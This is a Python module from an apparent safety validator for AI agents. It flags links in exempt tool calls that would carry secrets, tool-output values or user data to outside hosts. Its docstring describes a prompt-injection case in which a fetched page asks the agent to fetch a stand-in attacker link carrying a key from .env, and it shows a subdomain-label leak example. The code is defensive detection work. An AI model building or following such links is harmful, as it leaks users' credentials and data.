"""Egress through an exempt tool: data leaving in a link the agent built.

Exempt means exempt from authorization, not from egress. An exempt tool (a web search, a page fetch, a file
read) runs with no check, so it is a free channel out: a page the agent read can ask it to fetch
``https://collect.evil.example/?k=<a key from .env>``. Before an exempt call runs, each link in its arguments is
looked at, and the call goes to the user when the link carries, in its path or query:

- a **secret** (:mod:`validator.gate.secrets`: a key's or a token's issued shape, an assigned password, a
  string the user declared a secret), whatever its host, unless the whole link stands verbatim in the user's
  own words; a secret in any other argument (a search query, a header, a body) too, unless that argument
  stands verbatim in the user's words;
- a **value from a tool output** (a word of four letters or more, a number of four characters or more that
  stands in a message that is not the user's, and not in the user's words) in its path, its query or a label
  of its host below the registered name (``tr0ub4dor3x.evil.example``), whatever its host: a host the user
  named once is no licence for data the agent read;
- a **word of the user's** that no tool output holds (their data), to a host the user never named.

What runs as before: the exact link the user gave, a link a tool output gave followed as given (a search
result, a page's link), and a link built from the user's own words to a host they named.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from typing import Any
from urllib.parse import unquote_plus, urlsplit

import msgspec

from validator.findings import EgressKind
from validator.gate.index import other_index, user_index
from validator.gate.secrets import secrets_in, users_secrets
from validator.inputs.transcript import Transcript, is_users
from validator.language import LanguagePack
from validator.language.rules import ALL_ON, Rule, Rules
from validator.text.entities import extract_entities
from validator.text.paths import string_leaves

__all__ = ["Egress", "egress"]

_WORD = re.compile(r"[^\W_]{4,}|\d[\d.,]{2,}\d")
"""Words of four letters or more, and numbers of four characters or more, in a link's path and query."""


class Egress(msgspec.Struct, frozen=True):
    """A link that would carry data out: what it carries (``carried``, a secret shown masked) and of which kind."""

    path: str
    host: str
    carried: tuple[str, ...]
    kind: EgressKind = "user_words"


def egress(
    transcript: Transcript,
    args: Mapping[str, Any],
    user_id: str | None = None,
    rules: Rules = ALL_ON,
    pack: LanguagePack | None = None,
) -> Egress | None:
    """The first link in ``args`` that would carry data out (see the module docstring), if any; ``pack``: the
    language pasted text and declared secrets are found by (English by default)."""
    if not rules.on(Rule.EGRESS):
        return None
    users, others = user_index(transcript, user_id, rules, pack), other_index(transcript, user_id, rules, pack)
    declared = users_secrets(transcript, user_id, pack)

    def _user_has(text: str) -> bool:
        return bool(users.containing(text.casefold(), 1))

    def _outside_has(text: str) -> bool:
        return bool(others.containing(text.casefold(), 1))

    # pasted or typed: a link in the user's messages is one they gave (their whole text, folded once a check)
    given = "\x00".join(m.content.casefold() for m in transcript.messages if is_users(m, user_id))

    def _user_gave(text: str) -> bool:
        return text.casefold() in given

    for path, text in string_leaves(dict(args), ""):
        leak = None if _user_gave(text) else _secret_in(path, text, declared)
        if leak is not None:  # a secret in any argument (a query, a header, a body), not only in a link
            return leak
        for entity in extract_entities(text):
            if entity.kind not in ("url", "domain") or _user_gave(entity.value):
                continue  # the exact link the user gave
            raw = entity.value if "://" in entity.value else "//" + entity.value
            try:
                parts = urlsplit(raw)
            except ValueError:
                continue
            if _outside_has(entity.value):
                continue  # a link an output gave, followed as given
            words = set(_WORD.findall(unquote_plus(f"{parts.path} {parts.query}")))
            labels = set(_WORD.findall(entity.key.rsplit(".", 2)[0])) if entity.key.count(".") >= 2 else set()
            outside = tuple(sorted(w for w in words | labels if _outside_has(w) and not _user_has(w)))
            if outside:
                return Egress(path, entity.key, outside, "outside_values")
            if _user_has(entity.key):
                continue  # the user's words to a host they named
            carried = tuple(sorted(w for w in words if _user_has(w) and not _outside_has(w)))
            if carried:
                return Egress(path, entity.key, carried, "user_words")
    return None


_READ = 20_000
"""Characters of an argument read for a secret."""


def _secret_in(path: str, text: str, declared: frozenset[str]) -> Egress | None:
    """A secret in an argument, as written or percent-decoded (``sk%5Flive_…`` in a link's query)."""
    read = text[:_READ]
    secrets = tuple(dict.fromkeys((*secrets_in(read, declared), *secrets_in(unquote_plus(read), declared))))
    if not secrets:
        return None
    host = next((e.key for e in extract_entities(text[:_READ]) if e.kind in ("url", "domain")), "")
    return Egress(path, host, tuple(mask(s) for s in secrets), "secret")


def mask(secret: str) -> str:
    """A secret as a refusal may show it: its first four characters and its length, never the rest."""
    return f"{secret[:4]}… ({len(secret)} characters)"
